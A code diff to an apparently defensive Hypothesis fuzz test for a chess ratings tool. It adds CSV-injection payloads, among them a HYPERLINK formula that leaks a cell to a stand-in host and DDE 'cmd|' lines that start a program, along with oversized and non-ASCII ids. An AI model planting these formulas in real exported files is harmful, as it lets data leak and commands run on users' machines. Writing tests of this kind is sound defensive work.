@@ -1,8 +1,10 @@
 """Bad input sweep: Hypothesis feeds malformed CSV rows, absurd dates, huge numbers, NUL
-bytes, undecodable bytes and names with quotes or SQL fragments through every command that
-takes input. Each run must end in success or in ``Error: ...`` (exit 1; exit 2 for click's
-usage errors), never in a traceback, and a failed command must leave the database file
-byte for byte as it was.
+bytes, undecodable bytes, names with quotes or SQL fragments, formula-like names
+(``=HYPERLINK(...)``, ``+cmd|...``) and ids of 10 to 30 digits (ASCII or other digits)
+through every command that takes input. Each run must end in success or in ``Error: ...``
+(exit 1; exit 2 for click's usage errors), never in a traceback; a failed command must leave
+the database file byte for byte as it was, and a successful one must store nothing beyond
+``ratings.limits`` (SQLite would keep it, PostgreSQL would refuse it).
 
 Every example runs on a fresh copy of one small template database: four players, games in
 January and February 2026, January rated (so corrections, re-rate marks and "before the
@@ -22,6 +24,7 @@ from click.testing import CliRunner, Result
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from ratings import limits
 from ratings.cli import cli
 from ratings.io.csv import GAME_COLUMNS, PLAYER_COLUMNS
 
@@ -101,7 +104,19 @@ def run(db: Path, name: str, *args: str) -> Result:
         with sqlite3.connect(db) as conn:
             assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
             assert conn.execute("PRAGMA foreign_key_check").fetchall() == []
+            assert conn.execute(BEYOND_LIMITS).fetchall() == [], args
     return result
+
+
+BEYOND_LIMITS = f"""
+    SELECT 'player', id FROM players WHERE length(name) > {limits.MAX_NAME_LENGTH}
+        OR fide_id NOT BETWEEN 1 AND {limits.MAX_FIDE_ID}
+    UNION ALL SELECT 'event', id FROM events WHERE length(name) > {limits.MAX_EVENT_LENGTH}
+    UNION ALL SELECT 'game', id FROM games WHERE length(round) > {limits.MAX_ROUND_LENGTH}
+    UNION ALL SELECT 'import', id FROM imports
+        WHERE length(file_name) > {limits.MAX_FILE_NAME_LENGTH}
+"""
+"""Stored values beyond ratings.limits: SQLite keeps them, PostgreSQL would refuse them."""
 
 
 # --- strategies -----------------------------------------------------------------------
@@ -140,6 +155,37 @@ FRAGMENTS = [
     "x" * 201,
     "",
 ]
+FORMULAS = [
+    '=HYPERLINK("http://x/?d="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\t@SUM(1+1)",
+    "-12",
+]
+"""Formula-like names (OWASP CSV injection): stored as written or refused, never a crash."""
+DIGITS = ["0", "\u0660", "\u06f0", "\u0966", "\uff10", "\U0001d7ce", "\u2070"]
+"""The zero of ASCII, Arabic-Indic, Extended Arabic-Indic, Devanagari, full-width and
+mathematical bold digits (int() reads them all), and superscripts (isdigit() is true)."""
+_SUPERSCRIPTS = "\u2070\u00b9\u00b2\u00b3\u2074\u2075\u2076\u2077\u2078\u2079"
+
+
+def _written(number: int, zero: str) -> str:
+    if zero == "\u2070":
+        return "".join(_SUPERSCRIPTS[int(d)] for d in str(number))
+    return "".join(chr(ord(zero) + int(d)) for d in str(number))
+
+
+HUGE_IDS = st.builds(
+    _written, st.integers(min_value=10**9, max_value=10**30 - 1), st.sampled_from(DIGITS)
+)
+"""Ids of 10 to 30 digits, in ASCII or other digits: FIDE ids, player, game and event ids."""
+HOSTILE = st.one_of(
+    st.sampled_from(FORMULAS), HUGE_IDS, HUGE_IDS.map("fide:".__add__)
+)  # fmt: skip
 DATES = [
     "2026-01-15",
     "2026-02-20",
@@ -187,6 +233,7 @@ def nasty(choices: list[str]) -> st.SearchStrategy[str]:
         plausible,
         plausible,
         st.sampled_from(FRAGMENTS),
+        HOSTILE,
         text,
         st.tuples(st.sampled_from(choices + FRAGMENTS), text).map("".join),
     )
@@ -198,6 +245,7 @@ NUMBERS = st.one_of(
     st.sampled_from(
         ["", "1e3", "0x10", "1_000", "\uff11\uff12", "-0", " 5", "NaN", "3500", "3501"]
     ),
+    HUGE_IDS,
 )
 NAMES = nasty(["Smith, Ann", "New, Player"])
 REFS = nasty(["1", "2", "3", "4", "Smith, Ann", "fide:1001", "Unrated, Dee"])
@@ -349,8 +397,31 @@ TRF_LINE = st.one_of(
 )  # fmt: skip
 
 
+def _trf_player(no: int, name: str, fide_id: str, opponent: int) -> str:
+    """A well-formed ``001`` line (columns as in the TRF16 description) carrying ``name``
+    and ``fide_id``, which may be formula-like or huge."""
+    colour, result = ("w", "1") if no < opponent else ("b", "0")
+    return (
+        f"001 {no:>4} m    {name[:33]:<33} 1800 NED {fide_id[:11]:>11} 1990/01/01  1.0 "
+        f"{no:>4}  {opponent:>4} {colour} {result}"
+    )
+
+
+TRF_HOSTILE = st.builds(
+    _trf_player,
+    st.sampled_from([1, 2]),
+    st.one_of(st.sampled_from(FORMULAS), st.sampled_from(["Smith, Ann", "New, Player"])),
+    st.one_of(HUGE_IDS, st.sampled_from(["1001", "", "0"])),
+    st.sampled_from([1, 2]),
+)
+"""Player lines that parse, with formula-like names and huge or non-ASCII FIDE ids."""
+
+
 @SWEEP
-@given(lines=st.lists(TRF_LINE, max_size=6), ending=st.sampled_from(["\n", "\r\n", "\r"]))
+@given(
+    lines=st.lists(st.one_of(TRF_LINE, TRF_HOSTILE), max_size=6),
+    ending=st.sampled_from(["\n", "\r\n", "\r"]),
+)
 def test_import_trf(template: Path, work: Path, lines: list[str], ending: str) -> None:
     db = fresh(template, work)
     path = work.with_name("event.trf")
@@ -365,8 +436,23 @@ PGN_TAG = st.tuples(
 ).map(lambda tag: f'[{tag[0]} "{tag[1]}"]')  # fmt: skip
 
 
+PGN_GAME = st.builds(
+    lambda white, black, ids, event, round_: [
+        f'[White "{white}"]', f'[Black "{black}"]', '[Result "1-0"]', '[Date "2026.02.10"]',
+        f'[WhiteFideId "{ids[0]}"]', f'[BlackFideId "{ids[1]}"]', f'[Event "{event}"]',
+        f'[Round "{round_}"]',
+    ],
+    st.one_of(st.sampled_from(FORMULAS), st.just("New, Player")),
+    st.sampled_from(["Smith, Ann", "Jones, Bob", "Other, Oz"]),
+    st.tuples(st.one_of(HUGE_IDS, st.just("1001")), st.sampled_from(["", "0", "1002"])),
+    st.one_of(st.just("Feb Open"), st.sampled_from(FORMULAS), st.text(min_size=190, max_size=210)),
+    st.one_of(st.just("1"), st.text(min_size=15, max_size=25)),
+)  # fmt: skip
+"""A finished game whose tags reach the register: formula-like names, huge ids, long text."""
+
+
 @SWEEP
-@given(games=st.lists(st.lists(PGN_TAG, max_size=8), max_size=3))
+@given(games=st.lists(st.one_of(st.lists(PGN_TAG, max_size=8), PGN_GAME), max_size=3))
 def test_import_pgn(template: Path, work: Path, games: list[list[str]]) -> None:
     db = fresh(template, work)
     path = work.with_name("games.pgn")
